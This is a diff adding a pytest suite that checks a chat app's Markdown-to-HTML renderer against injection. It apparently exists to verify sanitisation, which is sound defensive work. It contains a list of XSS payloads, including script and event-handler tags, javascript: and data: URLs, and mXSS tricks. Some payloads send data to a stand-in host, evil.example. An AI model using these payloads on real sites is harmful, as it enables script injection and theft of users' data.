@@ -1,0 +1,151 @@
+"""Answers as HTML."""
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+
+from chat.render import ATTRIBUTES, LONGEST_RENDERED, TAGS, to_html
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;&#x61;vascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](file:///etc/passwd)",
+    "[x](/admin/logout/)",
+    "[x](//evil.example/)",
+    "[x](\\\\evil.example)",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/?d=secret)",
+    "![x](javascript:alert(1))",
+    "![x][r]\n\n[r]: https://evil.example/pixel.png",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    '[x](https://a.example "onmouseover=alert(1)")',
+    '[x](https://a.example "\\"><script>alert(1)</script>")',
+    "```\"><script>alert(1)</script>\nx\n```",
+    "```js onload=alert(1)\nx\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "    <script>alert(1)</script>",
+    "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |",
+    "<style>body{display:none}</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<div style='background:url(https://evil.example)'>x</div>",
+    "<details open ontoggle=alert(1)>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "# <script>alert(1)</script>",
+    "> <script>alert(1)</script>",
+    "- <object data=x></object><embed src=x>",
+    "<a id=start name=body>clobber</a>",
+    "<template><script>alert(1)</script></template>",
+    "</div></main><script>alert(1)</script>",
+]
+
+
+class Elements(HTMLParser):
+    """Collects what a browser would make of the HTML."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Note an element."""
+        self.found.append((tag, dict(attrs)))
+
+
+def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
+    parser = Elements()
+    parser.feed(to_html(text))
+    return parser.found
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_active_comes_out_of_hostile_input(text: str) -> None:
+    for tag, attributes in elements(text):
+        allowed = ATTRIBUTES.get(tag, set()) | {"class", "rel", "target", "tabindex"}
+        assert tag in TAGS
+        assert set(attributes) <= allowed
+        assert re.fullmatch(r"(https?://|mailto:).*", attributes.get("href") or "https://")
+
+
+def test_there_is_a_corpus_worth_its_name() -> None:
+    assert len(HOSTILE) >= 30
+
+
+def test_an_image_becomes_a_link_that_loads_nothing() -> None:
+    html = to_html("![a cat](https://evil.example/?d=secret)")
+
+    assert "<img" not in html
+
+
+def test_links_open_apart_and_say_nothing_of_us() -> None:
+    [(_, _), (tag, attributes)] = elements("[x](https://a.example/b?c=d)")
+
+    assert tag == "a"
+    assert attributes == {
+        "href": "https://a.example/b?c=d",
+        "rel": "noopener noreferrer nofollow",
+        "target": "_blank",
+    }
+
+
+def test_code_keeps_every_character_and_names_its_language() -> None:
+    html = to_html("```python\nif a < b and b > c:  # \"&\"\n```")
+
+    assert '<span class="code-language">python</span>' in html
+    assert "if a &lt; b and b &gt; c:  # \"&amp;\"" in html
+    assert '<pre tabindex="0">' in html
+
+
+def test_tables_are_aligned_by_class() -> None:
+    html = to_html("| a | b |\n|:-:|--:|\n| 1 | 2 |")
+
+    assert '<th class="align-center">a</th>' in html
+    assert '<td class="align-right">2</td>' in html
+    assert "style=" not in html
+
+
+def test_ordinary_markdown_is_rendered() -> None:
+    html = to_html("# Head\n\n**bold** *em* ~~old~~\n\n1. one\n2. two\n\n> quote")
+
+    for piece in ("<h1>Head</h1>", "<strong>bold</strong>", "<em>em</em>", "<s>old</s>", "<ol>", "<blockquote>"):
+        assert piece in html
+
+
+def test_dollars_stay_dollars() -> None:
+    assert "costs $5 and $10" in to_html("It costs $5 and $10.")
+
+
+def test_what_is_too_long_is_shown_as_it_is() -> None:
+    html = to_html("<b>" + "x" * LONGEST_RENDERED)
+
+    assert "<b>" not in html
+    assert "&lt;b&gt;" in html
+
+
+@pytest.mark.parametrize("text", ["[[" * 20_000, ">" * 20_000, "*a " * 30_000, "`" * 50_000, "- " * 20_000, "|a" * 9_000])
+def test_hostile_nesting_takes_bounded_time(text: str) -> None:
+    began = time.process_time()
+
+    to_html(text)
+
+    assert time.process_time() - began < 5
